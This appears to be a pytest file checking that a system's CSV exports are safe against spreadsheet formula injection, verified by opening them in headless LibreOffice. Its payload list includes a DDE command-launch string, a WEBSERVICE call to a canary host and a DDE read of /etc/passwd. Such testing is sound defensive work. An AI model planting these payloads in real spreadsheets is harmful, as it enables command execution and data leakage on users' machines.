"""Tables we hand out, opened by a real spreadsheet that is told to work out every formula: it finds none."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from chalicelib.actions import collect_figures
from chalicelib.wire import Deadline
from tests.abuse.test_words import WICKED
from tests.console.clerk import filed
from tests.console.desk import Desk
from tests.integrations.system import System
from tests.integrations.test_case_import import dms, uploaded, worked
from tests.shows import Measure
from tests.world import World

__all__ = ["dms"]  # a fixture
OFFICE = shutil.which("soffice") or shutil.which("libreoffice")
# As CSV comes in: parted by ";", in UTF-8, special numbers found, formulas worked out.
FILTER = "CSV:59,34,76,1,,0,false,true,false,false,false,0,true"
SECONDS_MAX = 120
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    " =1+1",
    "\uff1d1+1",
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("https://canary.example/")',
    '=DDE("soffice";"/etc/passwd";"x")',
    "=SUM(1;1)",
    '"=1+1"',
    "'=1+1",
    "1+1;=1+1",
]
TYPED = [*FORMULAS, *(said[:60] for said in WICKED)]
OFFICE_NS = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TABLE_NS = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT_NS = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


def opened(table: str, folder: Path) -> tuple[list[str], list[str]]:
    """The formulas and the words that LibreOffice finds in a table."""
    (folder / "table.csv").write_text(table, encoding="utf-8", newline="")
    command = [str(OFFICE), f"-env:UserInstallation=file://{folder}/profile", "--headless", f"--infilter={FILTER}"]
    command += ["--convert-to", "fods", "--outdir", str(folder), str(folder / "table.csv")]
    subprocess.run(command, check=True, timeout=SECONDS_MAX, capture_output=True)
    cells = list(ET.parse(folder / "table.fods").iter(f"{TABLE_NS}table-cell"))
    formulas = [cell.attrib[f"{TABLE_NS}formula"] for cell in cells if f"{TABLE_NS}formula" in cell.attrib]
    return formulas, ["\n".join("".join(line.itertext()) for line in cell.iter(f"{TEXT_NS}p")) for cell in cells]


@pytest.mark.campaign
@pytest.mark.shows("A8", "B73", "T7")
def test_a_spreadsheet_works_out_nothing_in_what_we_export_and_people_read_what_was_typed(
    dms: System, world: World, tmp_path: Path, measured: Measure
) -> None:
    assert OFFICE, "LibreOffice is needed (apt install libreoffice-calc-nogui)"
    desk = Desk(world, "admin")
    written = io.StringIO()
    csv.writer(written, delimiter=";").writerows([["broj", "predmet", "ime"], *([typed, "", ""] for typed in TYPED)])
    job = worked(world, uploaded(world, desk, written.getvalue()))
    for typed in TYPED:
        filed(world.slug, world.now, kind="problem", category=typed)
    collect_figures.collect(world.slug, world.now, Deadline(60))
    outcome = desk.opens(f"/console/counter/import/{job.id}/rows").text
    figures = desk.opens("/console/figures.csv").text
    for name, table in (("outcome", outcome), ("figures", figures)):
        formulas, words = opened(table.removeprefix("\ufeff"), _folder(tmp_path, name))
        assert formulas == [], name
        plain = {_as_read(word) for word in words}
        missing = [typed for typed in TYPED if _as_read(typed) not in plain]
        assert missing == [], name
    unsafe, _ = opened("a;=1+1\r\n", _folder(tmp_path, "unsafe"))
    assert len(unsafe) == 1, "else nothing would have been shown"
    measured("A8", f"{len(TYPED)} formulas and payloads in 2 tables, in LibreOffice: 0 cells worked out, all read")


def _folder(under: Path, name: str) -> Path:
    (under / name).mkdir()
    return under / name


def _as_read(word: str) -> str:
    return " ".join(word.lstrip("'").split())
